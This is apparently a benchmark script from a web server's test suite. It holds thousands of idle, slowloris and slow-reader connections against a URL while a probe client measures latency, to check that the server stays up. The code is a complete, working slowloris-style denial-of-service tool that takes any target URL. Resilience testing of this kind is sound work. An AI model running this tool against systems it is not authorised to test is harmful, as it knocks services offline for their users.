"""Slow and idle clients against a running server, while a good client probes a URL.

Three kinds of bad client, each holding one TCP connection (as in slowloris and its cousins):
- idle: connects and never sends a byte;
- slowloris: sends a request line and then one header byte every few seconds, never finishing;
- slow reader: asks for a large document and never reads the answer (a tiny receive window).

``python -m bench.slow_clients URL --idle 1000 --slowloris 1000 --slow-readers 1000 --seconds 60``
is the soak run; tests/test_open_internet.py runs a shorter one through ``attack``.
"""

from __future__ import annotations

import argparse
import asyncio
import multiprocessing
import resource
import socket
import statistics
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit


@dataclass
class Report:
    """What the good client saw, and how long the bad clients' connections lived."""

    latencies: list[float] = field(default_factory=list)  # seconds, successful probes
    failures: int = 0  # probes that got no complete 200 within the probe timeout
    opened: int = 0  # bad connections that were established
    refused: int = 0  # bad connections the server did not accept
    closed_by_server: dict[str, list[float]] = field(default_factory=dict)  # kind -> seconds until closed

    def p99(self) -> float:
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]

    def summary(self) -> str:
        probes = len(self.latencies) + self.failures
        lines = [
            f"probes: {probes}, failed: {self.failures}, "
            f"p50 {statistics.median(self.latencies) * 1000 if self.latencies else float('nan'):.1f} ms, p99 {self.p99() * 1000:.1f} ms",
            f"bad connections: {self.opened} opened, {self.refused} refused",
        ]
        for kind, lifetimes in sorted(self.closed_by_server.items()):
            lines.append(f"  {kind}: {len(lifetimes)} closed by the server, latest after {max(lifetimes, default=0):.1f} s")
        return "\n".join(lines)


def raise_fd_limit(wanted: int) -> None:
    """Let this process hold ``wanted`` sockets (up to the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft != resource.RLIM_INFINITY and soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))


async def _open(host: str, port: int, small_buffer: bool = False):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if small_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    return sock


async def _bad_client(kind: str, host: str, port: int, path: str, stop: asyncio.Event, report: Report) -> None:
    loop = asyncio.get_running_loop()
    try:
        sock = await asyncio.wait_for(_open(host, port, small_buffer=kind == "slow reader"), 10)
    except (TimeoutError, OSError):
        report.refused += 1
        return
    report.opened += 1
    started = time.monotonic()
    try:
        if kind == "slowloris":
            await loop.sock_sendall(sock, f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode())
        elif kind == "slow reader":
            request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nAccept-Encoding: identity\r\n\r\n" * 8
            await loop.sock_sendall(sock, request.encode())
        while not stop.is_set():
            if kind == "slowloris":
                await loop.sock_sendall(sock, b"X")
            # a closed connection shows up as a readable socket with nothing in it
            if kind != "slow reader" and await _closed_within(sock, 3):
                report.closed_by_server.setdefault(kind, []).append(time.monotonic() - started)
                return
            if kind == "slow reader":
                with_error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if with_error:
                    report.closed_by_server.setdefault(kind, []).append(time.monotonic() - started)
                    return
                await asyncio.sleep(3)
    except OSError:
        report.closed_by_server.setdefault(kind, []).append(time.monotonic() - started)
    finally:
        sock.close()


async def _closed_within(sock: socket.socket, seconds: float) -> bool:
    loop = asyncio.get_running_loop()
    try:
        data = await asyncio.wait_for(loop.sock_recv(sock, 65536), seconds)
    except TimeoutError:
        return False
    return data == b"" or data.startswith(b"HTTP/1.1 408") or data.startswith(b"HTTP/1.1 400")


def _probe(host: str, port: int, path: str, timeout: float) -> float | None:
    """One fresh connection, one GET; the seconds until the whole 200 arrived, or None."""
    started = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=timeout) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
                if time.monotonic() - started > timeout:
                    return None
    except OSError:
        return None
    if not data.startswith(b"HTTP/1.1 200"):
        return None
    return time.monotonic() - started


async def _hold(host: str, port: int, kinds: list[str], big_path: str, connection) -> None:
    """Open the bad connections in waves, as a botnet would (not one SYN flood); hold them until told to stop."""
    report = Report()
    stop = asyncio.Event()
    asyncio.get_running_loop().add_reader(connection.fileno(), stop.set)
    bad = []
    for index, kind in enumerate(kinds):
        bad.append(asyncio.create_task(_bad_client(kind, host, port, big_path, stop, report)))
        if index % 100 == 99:
            await asyncio.sleep(0.05)
    await stop.wait()
    await asyncio.gather(*bad, return_exceptions=True)
    connection.recv()
    connection.send(report)


def _bad_clients_process(host: str, port: int, kinds: list[str], big_path: str, connection) -> None:
    raise_fd_limit(len(kinds) + 100)
    asyncio.run(_hold(host, port, kinds, big_path, connection))


def attack(
    url: str, *, idle: int = 0, slowloris: int = 0, slow_readers: int = 0, seconds: float = 20, big_path: str = "/feed.xml"
) -> Report:
    """Hold the bad connections for ``seconds`` while probing ``url`` every 50 ms; return what happened.

    The bad clients run in a process of their own, so the probe's latency is the server's, not
    that of an event loop busy with thousands of sockets.
    """
    parts = urlsplit(url)
    host, port, path = parts.hostname, parts.port, parts.path or "/"
    kinds = ["idle"] * idle + ["slowloris"] * slowloris + ["slow reader"] * slow_readers
    context = multiprocessing.get_context("spawn")
    parent, child = context.Pipe()
    holder = context.Process(target=_bad_clients_process, args=(host, port, kinds, big_path, child))
    holder.start()
    try:
        latencies, failures = [], 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            latency = _probe(host, port, path, timeout=2.0)
            if latency is None:
                failures += 1
            else:
                latencies.append(latency)
            time.sleep(0.05)
        parent.send("stop")
        report = parent.recv()
    finally:
        holder.join(timeout=30)
        if holder.is_alive():
            holder.kill()
    report.latencies, report.failures = latencies, failures
    return report


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url", help="the URL the good client probes, e.g. http://127.0.0.1:8000/feed.xml")
    parser.add_argument("--idle", type=int, default=1000)
    parser.add_argument("--slowloris", type=int, default=1000)
    parser.add_argument("--slow-readers", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--big-path", default="/feed.xml", help="what the slow readers ask for")
    args = parser.parse_args()
    report = attack(
        args.url, idle=args.idle, slowloris=args.slowloris, slow_readers=args.slow_readers, seconds=args.seconds, big_path=args.big_path
    )
    print(report.summary())


if __name__ == "__main__":
    main()
